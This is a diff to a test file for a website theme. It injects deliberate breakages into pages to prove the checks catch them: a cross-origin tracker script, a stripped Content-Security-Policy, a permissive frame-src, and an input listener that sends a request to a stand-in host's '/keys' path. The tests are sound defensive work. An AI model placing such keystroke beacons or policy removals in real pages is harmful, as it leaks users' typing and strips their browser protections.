@@ -20,10 +20,22 @@ const typingFile = (await readdir(join(root, 'fonts'))).find((f) => /^cbh-typeit
 // A script the page runs before anything else, breaking it for the test.
 const early = (js) => (h) => h.replace('<head>', `<head><script>${js}</script>`);
 
+// The page with the theme's Content-Security-Policy taken out: a breakage
+// that the policy would stop proves the check behind it on its own.
+const noPolicy = (h) => h.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
+
 const breakages = [
-  { what: 'a script tag that loads from another origin', script: 'pages.mjs',
-    edit: (h) => h.replace('</head>', '<script src="https://static.example.org/tracker.js"></script></head>'),
+  { what: 'a script tag that loads from another origin (the policy taken out)', script: 'pages.mjs',
+    edit: (h) => noPolicy(h).replace('</head>', '<script src="https://static.example.org/tracker.js"></script></head>'),
     says: 'request leaves the origin: GET https://static.example.org/tracker.js' },
+  { what: 'a script tag that loads from another origin, stopped by the policy', script: 'pages.mjs',
+    edit: (h) => h.replace('</head>', '<script src="https://static.example.org/tracker.js"></script></head>'),
+    says: "violates the following Content Security Policy directive: \"script-src 'self' 'unsafe-inline'\"" },
+  { what: 'a page without its Content-Security-Policy', script: 'pages.mjs',
+    edit: noPolicy, says: 'Content-Security-Policy does not say: the whole policy' },
+  { what: 'a policy that lets a page be framed in', script: 'pages.mjs',
+    edit: (h) => h.replace("frame-src 'none'", "frame-src *"),
+    says: "Content-Security-Policy does not say: frame-src 'none'" },
   { what: 'a console error on load', script: 'pages.mjs',
     edit: (h) => h.replace('</head>', '<script>console.error("broken on purpose")</script></head>'),
     says: 'console error: broken on purpose' },
@@ -81,8 +93,8 @@ const breakages = [
   { what: 'the typing mode downloaded with the page', script: 'typeit.mjs', env: { TYPEIT_PART: 'listings' },
     edit: (h) => h.replace('</head>', `<script src="fonts/${typingFile}"></script></head>`),
     says: 'FAIL 1280px: the typing mode is not downloaded on load' },
-  { what: 'a typing mode that reports keystrokes to another origin', script: 'typeit.mjs', env: { TYPEIT_PART: 'listings' },
-    edit: early("document.addEventListener('input', () => fetch('https://static.example.org/keys', { mode: 'no-cors' }).catch(() => {}), { once: true });"),
+  { what: 'a typing mode that reports keystrokes to another origin (the policy taken out)', script: 'typeit.mjs', env: { TYPEIT_PART: 'listings' },
+    edit: (h) => early("document.addEventListener('input', () => fetch('https://static.example.org/keys', { mode: 'no-cors' }).catch(() => {}), { once: true });")(noPolicy(h)),
     says: 'FAIL 1280px: no request leaves the origin while typing' },
   { what: 'slips drawn beside their place (the faded listing out of line with the box)', script: 'typeit.mjs', env: { TYPEIT_PART: 'slips' },
     edit: (h) => h.replace('</head>', '<style>.cbh-ti-layer { padding-left: 2rem !important; }</style></head>'),
